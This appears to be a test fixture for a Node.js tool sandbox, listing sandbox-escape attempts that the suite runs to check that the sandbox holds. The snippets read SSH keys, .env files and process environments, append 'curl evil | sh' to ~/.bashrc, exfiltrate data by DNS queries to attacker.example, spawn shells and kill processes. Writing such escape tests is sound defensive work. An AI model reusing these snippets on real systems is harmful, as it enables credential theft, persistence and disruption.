// The escape corpus: what an attacker who knows Node and Linux tries from inside a tool, one tool
// per attempt. Every tool gets the same input (where the home directory, the SSH key, the
// outside directory and the canary servers are: an attacker would guess them) and answers
// `{ escaped, evidence }` from what it actually obtained. The tests do not trust that answer
// alone: they also check the host (files, canary servers, secrets in the output).
//
// `osOnly` names what only the OS boundary stops; under `--sandbox=node` those attempts succeed,
// and docs/sandbox.md lists them.

export interface Attempt {
  area:
    | 'files'
    | 'links'
    | 'processes'
    | 'signals'
    | 'network'
    | 'dns'
    | 'udp'
    | 'loaders'
    | 'native code'
    | 'limits'
    | 'result channel'
    | 'environment'
    | 'machine';
  what: string;
  source: string;
  /** Why the Node layer alone lets this through (the attempt succeeds under --sandbox=node). */
  osOnly?: string;
  /** Extra arguments for pkg run (limits). */
  args?: string[];
}

const PRELUDE = [
  'const leak = (evidence) => ({ escaped: true, evidence: String(evidence).slice(0, 300) });',
  'const held = (error) => ({ escaped: false, why: String(error?.code ?? error?.message ?? error) });',
  // A TCP attempt escaped only if the canary's banner came back.
  'const banner = (socket) => new Promise((resolve) => { let data = ""; socket.on("data", (d) => { data += d; if (data.includes("CANARY-BANNER")) { resolve(leak(data)); socket.destroy(); } }); socket.on("error", (e) => resolve(held(e))); socket.on("close", () => resolve(held("closed"))); });',
].join('\n');

const tool = (body: string, imports = '') =>
  `${imports}\n${PRELUDE}\nexport default async (input) => {\n${body}\n};`;

/** Reads `path` (an expression) and reports the SSH key if it got it. */
const readsKey = (path: string, imports = "import fs from 'node:fs';") =>
  tool(
    `const text = fs.readFileSync(${path}, 'utf8'); return text.includes('SSH-KEY-SECRET') ? leak(text) : held('other content');`,
    imports,
  );

export const ATTEMPTS: Record<string, Attempt> = {
  // ---- files ----
  'read-ssh-key': {
    area: 'files',
    what: "read the user's SSH key by its path",
    source: readsKey('input.sshKey'),
  },
  'read-dotenv': {
    area: 'files',
    what: "read the project's .env (relative to the working directory)",
    source: tool(
      "const text = fs.readFileSync('.env', 'utf8'); return text.includes('DOTENV-SECRET') ? leak(text) : held('other');",
      "import fs from 'node:fs';",
    ),
  },
  'read-etc-passwd': {
    area: 'files',
    what: 'read /etc/passwd',
    source: tool(
      "const text = fs.readFileSync('/etc/passwd', 'utf8'); return text.includes('root:') ? leak(text) : held('other');",
      "import fs from 'node:fs';",
    ),
  },
  'write-home': {
    area: 'files',
    what: 'write a file into the home directory',
    source: tool(
      "fs.writeFileSync(input.home + '/pwned', 'x'); return leak('written');",
      "import fs from 'node:fs';",
    ),
  },
  'append-bashrc': {
    area: 'files',
    what: "append a command to the user's ~/.bashrc",
    source: tool(
      "fs.appendFileSync(input.home + '/.bashrc', 'curl evil | sh\\n'); return leak('appended');",
      "import fs from 'node:fs';",
    ),
  },
  'write-traversal': {
    area: 'files',
    what: 'write out/../pwned (a .. inside a declared write path)',
    source: tool(
      "fs.writeFileSync('out/../pwned', 'x'); return leak('written');",
      "import fs from 'node:fs';",
    ),
  },
  'heap-snapshot-cwd': {
    area: 'files',
    what: 'write a heap snapshot into the working directory (the project)',
    source: tool('return leak(v8.writeHeapSnapshot());', "import v8 from 'node:v8';"),
  },
  'report-on-fatal': {
    area: 'files',
    what: 'arrange a diagnostic report on a fatal error, then abort',
    source: tool(
      'process.report.directory = input.outside; process.report.reportOnFatalError = true; process.abort();',
    ),
  },
  'read-cli-environ': {
    area: 'files',
    what: "read the CLI's environment from /proc/<ppid>/environ",
    source: tool(
      "const text = fs.readFileSync('/proc/' + process.ppid + '/environ', 'utf8'); return text.includes('CLI-ENV-SECRET') ? leak(text) : held('no secret there');",
      "import fs from 'node:fs';",
    ),
  },
  'tmp-drop': {
    area: 'files',
    what: 'drop a file in /tmp for a later process to pick up',
    source: tool(
      "fs.writeFileSync('/tmp/pkg-hostile-drop', 'x'); return fs.existsSync('/tmp/pkg-hostile-drop') ? held('in the sandbox /tmp only') : held('not written');",
      "import fs from 'node:fs';",
    ),
  },
  'probe-existence': {
    area: 'files',
    what: 'learn whether ~/.ssh/id_ed25519 exists through module resolution',
    source: tool(
      'try { return leak(createRequire(import.meta.url).resolve(input.sshKey)); } catch (e) { return held(e); }',
      "import { createRequire } from 'node:module';",
    ),
    osOnly:
      "Node's module resolution is not checked by its permission model: it tells whether a file exists (never its content)",
  },
  // ---- links ----
  'symlink-create': {
    area: 'links',
    what: 'create a link in the write path to the SSH key, then read it',
    source: tool(
      "fs.symlinkSync(input.sshKey, 'out/key'); return leak(fs.readFileSync('out/key', 'utf8'));",
      "import fs from 'node:fs';",
    ),
  },
  'hardlink-create': {
    area: 'links',
    what: 'hard-link the SSH key into the write path',
    source: tool(
      "fs.linkSync(input.sshKey, 'out/key'); return leak(fs.readFileSync('out/key', 'utf8'));",
      "import fs from 'node:fs';",
    ),
  },
  // ---- processes ----
  spawn: {
    area: 'processes',
    what: 'start /bin/sh',
    source: tool(
      "return leak(execFileSync('/bin/sh', ['-c', 'cat ' + input.sshKey], { encoding: 'utf8' }));",
      "import { execFileSync } from 'node:child_process';",
    ),
  },
  worker: {
    area: 'processes',
    what: 'start a worker thread (which the guards would not cover)',
    source: tool(
      "new Worker('1', { eval: true }); return leak('worker started');",
      "import { Worker } from 'node:worker_threads';",
    ),
  },
  'process-binding': {
    area: 'processes',
    what: "reach Node's internals: process.binding('spawn_sync')",
    source: tool("return leak(typeof process.binding('spawn_sync').spawn);"),
  },
  'list-processes': {
    area: 'processes',
    what: "list the machine's processes through /proc",
    source: tool(
      "const pids = fs.readdirSync('/proc').filter((p) => /^\\d+$/.test(p)); return pids.length > 3 ? leak(pids.length + ' processes') : held(pids.length + ' processes visible');",
      "import fs from 'node:fs';",
    ),
  },
  'renice-cli': {
    area: 'processes',
    what: "lower the CLI's priority (os.setPriority of the parent)",
    source: tool(
      'os.setPriority(process.ppid, 19); return leak("reniced " + process.ppid);',
      "import os from 'node:os';",
    ),
  },
  inspector: {
    area: 'processes',
    what: "open the tool's own inspector and drive it",
    source: tool(
      'const inspector = await import("node:inspector"); inspector.open(0); return leak(inspector.url());',
    ),
  },
  // ---- signals ----
  'kill-cli': {
    area: 'signals',
    what: 'SIGKILL the CLI (the parent)',
    source: tool("process.kill(process.ppid, 'SIGKILL'); return leak('sent');"),
  },
  'kill-all': {
    area: 'signals',
    what: 'SIGTERM every process of the user (kill -1)',
    source: tool("process.kill(-1, 'SIGTERM'); return leak('sent to all');"),
  },
  'raw-kill': {
    area: 'signals',
    what: 'process._kill (the binding under process.kill) on the parent',
    source: tool("process._kill(process.ppid, 15); return leak('sent');"),
  },
  // ---- network ----
  'connect-undeclared': {
    area: 'network',
    what: 'net.connect to an undeclared host (::1)',
    source: tool(
      "return await banner(net.connect({ host: '::1', port: input.tcpPort }));",
      "import net from 'node:net';",
    ),
  },
  'connect-mapped': {
    area: 'network',
    what: 'connect to 127.0.0.2 written as an IPv4-mapped IPv6 address',
    source: tool(
      "return await banner(net.connect({ host: '::ffff:127.0.0.2', port: input.tcpPort }));",
      "import net from 'node:net';",
    ),
  },
  'fetch-undeclared': {
    area: 'network',
    what: 'fetch from an undeclared host',
    source: tool(
      "const r = await fetch('http://[::1]:' + input.tcpPort + '/'); return leak(await r.text());",
    ),
  },
  'fetch-dispatcher': {
    area: 'network',
    what: 'fetch with an undici dispatcher of its own',
    source: tool(
      "let ran = false; const dispatcher = { dispatch() { ran = true; return false; } }; try { await fetch('https://api.example.com/', { dispatcher }); } catch (e) { return ran ? leak('the dispatcher ran') : held(e); } return ran ? leak('the dispatcher ran') : held('no dispatcher');",
    ),
  },
  'lookup-rebind': {
    area: 'network',
    what: 'http.request to a declared name with a lookup that answers an undeclared address',
    source: tool(
      "return await new Promise((resolve) => { const req = http.request({ host: 'api.example.com', port: input.tcpPort, lookup: (h, o, cb) => cb(null, '::1', 6) }, (res) => resolve(leak(res.statusCode))); req.on('error', (e) => resolve(held(e))); req.end(); });",
      "import http from 'node:http';",
    ),
  },
  'tls-undeclared': {
    area: 'network',
    what: 'tls.connect to an undeclared host',
    source: tool(
      "return await banner(tls.connect({ host: '::1', port: input.tcpPort, rejectUnauthorized: false }));",
      "import tls from 'node:tls';",
    ),
  },
  'http2-undeclared': {
    area: 'network',
    what: 'http2.connect to an undeclared host',
    source: tool(
      "return await new Promise((resolve) => { const s = http2.connect('http://[::1]:' + input.tcpPort); s.on('error', (e) => resolve(held(e))); s.on('connect', () => resolve(leak('h2 session'))); });",
      "import http2 from 'node:http2';",
    ),
  },
  'proxy-socket-direct': {
    area: 'network',
    what: "speak to the OS boundary's proxy socket directly, naming an undeclared host",
    source: tool(
      "const s = net.createConnection({ path: '/run/pkg/net.sock' }); s.write('PKG-CONNECT ::1 ' + input.tcpPort + '\\n'); return await banner(s);",
      "import net from 'node:net';",
    ),
  },
  'abstract-socket': {
    area: 'network',
    what: 'connect to a host service on an abstract Unix socket (X11, D-Bus)',
    source: tool(
      'return await banner(net.createConnection({ path: input.abstract }));',
      "import net from 'node:net';",
    ),
  },
  'proc-self-mem': {
    area: 'native code',
    what: 'rewrite its own code through /proc/self/mem to undo the guards',
    source: tool(
      "const fd = fs.openSync('/proc/self/mem', 'r+'); return leak('opened ' + fd);",
      "import fs from 'node:fs';",
    ),
  },
  listen: {
    area: 'network',
    what: 'listen on a port for the outside to connect in',
    source: tool(
      "return await new Promise((resolve) => net.createServer().listen(0, () => resolve(leak('listening'))).on('error', (e) => resolve(held(e))));",
      "import net from 'node:net';",
    ),
  },
  // ---- dns ----
  'dns-exfiltrate': {
    area: 'dns',
    what: 'leak data in a DNS query for an undeclared name',
    source: tool(
      "const r = await dns.resolveTxt('secret-data.attacker.example'); return leak(r);",
      "import dns from 'node:dns/promises';",
    ),
  },
  'dns-set-servers': {
    area: 'dns',
    what: "point the resolver at the attacker's DNS server",
    source: tool(
      "dns.setServers(['127.0.0.1:' + input.udpPort]); return leak('servers set');",
      "import dns from 'node:dns';",
    ),
  },
  'dns-resolver-class': {
    area: 'dns',
    what: 'a new dns.Resolver for an undeclared name',
    source: tool(
      "const r = new dns.Resolver(); return await new Promise((resolve) => r.resolve4('attacker.example', (e, a) => resolve(e ? held(e) : leak(a))));",
      "import dns from 'node:dns';",
    ),
  },
  // ---- udp ----
  'udp-create-socket': {
    area: 'udp',
    what: 'dgram.createSocket and send',
    source: tool(
      "const s = dgram.createSocket('udp4'); s.send('udp escape', input.udpPort, '127.0.0.1'); return leak('sent');",
      "import dgram from 'node:dgram';",
    ),
  },
  // ---- loaders ----
  'loader-hook': {
    area: 'loaders',
    what: 'register a module loader hook (it would run on its own thread)',
    source: tool(
      "register('data:text/javascript,export async function load(u, c, n) { return n(u, c); }'); return leak('hook registered');",
      "import { register } from 'node:module';",
    ),
  },
  'import-secret-json': {
    area: 'loaders',
    what: 'import the SSH key through the module loader',
    source: tool('const m = await import(input.sshKey); return leak(JSON.stringify(m));'),
  },
  'v8-natives': {
    area: 'loaders',
    what: "turn on V8's natives syntax at run time (a way into the engine's internals)",
    source: tool(
      "v8.setFlagsFromString('--allow-natives-syntax'); return leak(typeof new Function('return %GetOptimizationStatus')());",
      "import v8 from 'node:v8';",
    ),
  },
  // ---- native code ----
  'dlopen-libc': {
    area: 'native code',
    what: 'load libc as a native addon',
    source: tool(
      "const m = { exports: {} }; process.dlopen(m, '/lib/x86_64-linux-gnu/libc.so.6'); return leak('loaded');",
    ),
  },
  wasi: {
    area: 'native code',
    what: 'start WASI with the root directory preopened',
    source: tool(
      "const { WASI } = await import('node:wasi'); new WASI({ version: 'preview1', preopens: { '/': '/' } }); return leak('wasi');",
    ),
  },
  // ---- limits ----
  'buffer-hog': {
    area: 'limits',
    what: "allocate memory outside V8's heap (Buffers)",
    source: tool(
      'const keep = []; for (;;) { keep.push(Buffer.alloc(16 * 1024 * 1024, 1)); await new Promise((r) => setImmediate(r)); }',
    ),
    args: ['--memory', '64'],
  },
  'thread-pool-burn': {
    area: 'limits',
    what: "burn CPU on libuv's thread pool past the time limit",
    source: tool(
      "for (;;) { await Promise.all(Array.from({ length: 4 }, () => new Promise((r) => crypto.pbkdf2('x', 'y', 200000, 64, 'sha512', r)))); }",
      "import crypto from 'node:crypto';",
    ),
    args: ['--timeout', '2'],
  },
  // ---- result channel ----
  'result-garbage': {
    area: 'result channel',
    what: 'write something that is not a result on the result channel, then exit',
    source: tool("fs.writeSync(3, 'not json at all\\n'); process.exit(0);", "import fs from 'node:fs';"),
  },
  // ---- environment ----
  'env-secret': {
    area: 'environment',
    what: "read the CLI's secret variables (PKG_TOKEN) from the environment",
    source: tool(
      "const all = JSON.stringify(process.env) + fs.readFileSync('/proc/self/environ', 'utf8'); return all.includes('CLI-ENV-SECRET') ? leak(all) : held('not there');",
      "import fs from 'node:fs';",
    ),
  },
  // ---- the machine ----
  hostname: {
    area: 'machine',
    what: "learn the machine's host name",
    source: tool(
      'return os.hostname() === input.hostname ? leak(os.hostname()) : held(os.hostname());',
      "import os from 'node:os';",
    ),
    osOnly: 'os.hostname() is not covered by the permission model',
  },
  interfaces: {
    area: 'machine',
    what: "list the machine's network interfaces and addresses",
    source: tool(
      "const names = Object.keys(os.networkInterfaces()); return names.some((n) => n !== 'lo') ? leak(names) : held(names);",
      "import os from 'node:os';",
    ),
    osOnly: 'os.networkInterfaces() is not covered by the permission model',
  },
};
